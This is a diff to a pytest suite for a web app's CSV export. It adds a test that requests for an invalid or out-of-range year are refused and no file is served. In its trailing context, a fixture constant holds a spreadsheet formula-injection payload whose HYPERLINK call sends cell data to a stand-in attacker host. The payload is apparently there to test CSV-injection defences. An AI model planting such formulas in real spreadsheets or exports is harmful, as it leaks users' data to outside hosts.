@@ -155,6 +155,21 @@ def test_a_csv_left_unread_leaves_the_tests_app_context_on_top(client, auth, wor
     assert flask.current_app._get_current_object() is mine
 
 
+@pytest.mark.parametrize("year", ["1999", "2027", "abc", "２０２６", "99999999999999999999"])
+def test_a_year_the_archive_cannot_serve_is_refused_naming_those_it_can(client, auth, world, year):
+    """A year out of range, or not a number, once served the next upload batch as if it were
+    that year's archive: now the page says which years there are, and no file is sent."""
+    auth.login(world["admin"].email)
+    client.get("/lang/en")
+    response = client.get(f"/trace/handovers.csv?year={year}")
+    assert response.status_code == 400 and response.mimetype == "text/html"
+    assert "Content-Disposition" not in response.headers
+    page = response.get_data(as_text=True)
+    assert "from 2000 to 2026" in page  # NOW is in 2026
+    served = client.get("/trace/handovers.csv?year=2026")
+    assert served.status_code == 200 and served.mimetype == "text/csv"
+
+
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
 
 
